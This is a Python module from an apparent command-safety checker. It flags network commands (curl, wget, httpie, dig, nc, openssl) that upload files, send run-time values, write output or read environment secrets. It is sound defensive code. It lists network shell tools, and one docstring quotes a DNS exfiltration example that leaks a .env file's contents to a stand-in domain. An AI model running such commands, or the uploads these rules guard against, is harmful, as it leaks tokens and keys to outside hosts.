"""Safety rules for programs that reach the network: what they send (uploads, form data, values
computed at run time), what they write, and whether the environment — which holds tokens and keys
— is read on the same line as one of them.

Pure apart from stat-like path checks. Same contract as `command_rules`: yield reasons to flag.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from levelcode.tools.command_check.command_call import (
    Call,
    Rule,
    all_of,
    cluster_letters,
    has_long,
    option_value,
    option_values,
    path_checks,
    split_options,
)

DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "xh", "xhs", "lwp-download"})
LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "whois", "traceroute", "tracepath"})
CONNECTORS = frozenset({"ssh", "scp", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "tftp"})
NETWORK_TOOLS = DOWNLOADERS | LOOKUPS | CONNECTORS | {"openssl"}
ENVIRONMENT = "<environment>"  # stands for reading the environment (env, printenv, /proc/*/environ)

_CURL_VALUES = "AbcCdDeEFHKmoPQrtTuUwxXyYz"  # curl's short options that take a value
_WGET_VALUES = "OoaeiBtTwQPUlARDIX"
_UPLOAD = re.compile(r"^@|^-d@|=@|=<")
_CURL_SENDS = ("--data", "--json", "--form", "--upload-file", "--config")
_READING_METHODS = frozenset({"GET", "HEAD", "OPTIONS"})
_HTTPIE_METHOD = re.compile(r"[A-Za-z]+")
_HTTPIE_DATA = re.compile(r"^[^:=@]*(:=@|:=|==|=@|=|@)")  # field=v, field:=json, field@file, q==v


def _sends_run_time_values(call: Call) -> Iterator[str]:
    dynamic = [word.text for word in call.args if word.dynamic]
    if dynamic:
        yield f"sends a value known only when it runs to the network ({dynamic[0]!r})"
    if call.args_unknown:
        yield f"{call.name} gets arguments only at run time (xargs, find -exec)"


def _method(call: Call, short: str | None, long: str) -> Iterator[str]:
    method = option_value(call.args, short, long)
    if method is not None and method.text.upper() not in _READING_METHODS:
        yield f"sends a {method.text} request, which changes or uploads something ({call.name})"


def curl_rule(call: Call) -> Iterator[str]:
    options = split_options(call.args)[0]
    letters = cluster_letters(options, _CURL_VALUES)
    sends = any(has_long(options, name, shortest=6) for name in _CURL_SENDS) or any(
        option.startswith(_CURL_SENDS) for option in options
    )
    if sends or letters & {"d", "F", "T", "K"}:
        yield "sends data or files (curl -d / --data / -F / -T / --json / -K)"
    yield from _method(call, "-X", "--request")
    if has_long(options, "--unix-socket", shortest=6) or has_long(options, "--abstract-unix-socket"):
        yield "talks to a local service through its socket (curl --unix-socket)"
    outputs = [option_value(call.args, "-o", "--output"), option_value(call.args, None, "--output-dir")]
    outputs += [option_value(call.args, "-D", "--dump-header"), option_value(call.args, "-c", "--cookie-jar")]
    outputs += [option_value(call.args, None, "--trace"), option_value(call.args, None, "--trace-ascii")]
    yield from path_checks("writes to", call, [word for word in outputs if word and word.text != "-"])


def wget_rule(call: Call) -> Iterator[str]:
    options = split_options(call.args)[0]
    sending = ("--post-data", "--post-file", "--body-data", "--body-file")
    if any(has_long(options, name, shortest=7) for name in sending):
        yield "sends data or files (wget --post-data / --post-file / --body-data)"
    yield from _method(call, None, "--method")
    runs = ("--execute", "--config", "--use-askpass")
    if "e" in cluster_letters(options, _WGET_VALUES) or any(has_long(options, name) for name in runs):
        yield "runs wgetrc commands or a program it is given (wget -e / --config / --use-askpass)"
    outputs = [
        option_value(call.args, "-O", "--output-document"),
        option_value(call.args, "-P", "--directory-prefix"),
    ]
    outputs += [
        option_value(call.args, "-o", "--output-file"),
        option_value(call.args, "-a", "--append-output"),
    ]
    yield from path_checks("writes to", call, [word for word in outputs if word and word.text != "-"])


def httpie_rule(call: Call) -> Iterator[str]:
    """http, https, xh: `[METHOD] URL ITEM...`, where items such as `a=b`, `a:=1` and `f@file` are data."""
    options, operands = split_options(call.args)
    if operands and _HTTPIE_METHOD.fullmatch(operands[0].text):
        operands = operands[1:]  # a method, or a bare host name: neither is data
    if any(_HTTPIE_DATA.match(word.text) for word in operands) or {"--form", "-f", "--raw"} & set(options):
        yield f"sends data or files ({call.name} with request items)"
    if call.stdin_unseen:
        yield f"sends what it reads on its input ({call.name} sends piped or redirected input as the body)"
    yield from path_checks("writes to", call, option_values(call.args, "-o", "--output"))


def downloader_rule(call: Call) -> Iterator[str]:
    """What every downloader shares: files named with @ are uploads, run-time values are sent."""
    if any(_UPLOAD.search(word.text) for word in call.args):
        yield f"uploads a local file ({call.name})"
    yield from _sends_run_time_values(call)
    if call.name == "aria2c" and any(word.text.startswith(("--on-", "--conf-path")) for word in call.args):
        yield "runs a program when a download starts or ends (aria2c --on-download-complete ...)"


def lookup_rule(call: Call) -> Iterator[str]:
    """A name looked up can carry data out (`dig $(cat .env).example.com`)."""
    yield from _sends_run_time_values(call)


def openssl_rule(call: Call) -> Iterator[str]:
    if call.args and call.args[0].text in ("s_client", "s_server", "s_time"):
        yield f"connects to another machine (openssl {call.args[0].text})"


def reads_environment(call: Call) -> bool:
    """Whether the command prints the environment or a variable (`printenv`, `set`, `export -p` ...)."""
    operands = [word for word in call.args if not word.text.startswith(("-", "+"))]
    options = {word.text for word in call.args if word.text.startswith("-")}
    if call.name == "printenv":
        return True
    if call.name == "set":
        return not call.args
    if call.name in ("export", "declare", "typeset", "readonly", "local"):
        return not operands or "-p" in options
    return call.name == "compgen" and bool({"-v", "-e", "-A"} & options)


NETWORK_RULES: dict[str, Rule] = {
    **dict.fromkeys(DOWNLOADERS, downloader_rule),
    "curl": all_of(downloader_rule, curl_rule),
    "wget": all_of(downloader_rule, wget_rule),
    **dict.fromkeys(("http", "https", "xh", "xhs"), all_of(downloader_rule, httpie_rule)),
    **dict.fromkeys(LOOKUPS, lookup_rule),
    "openssl": openssl_rule,
}
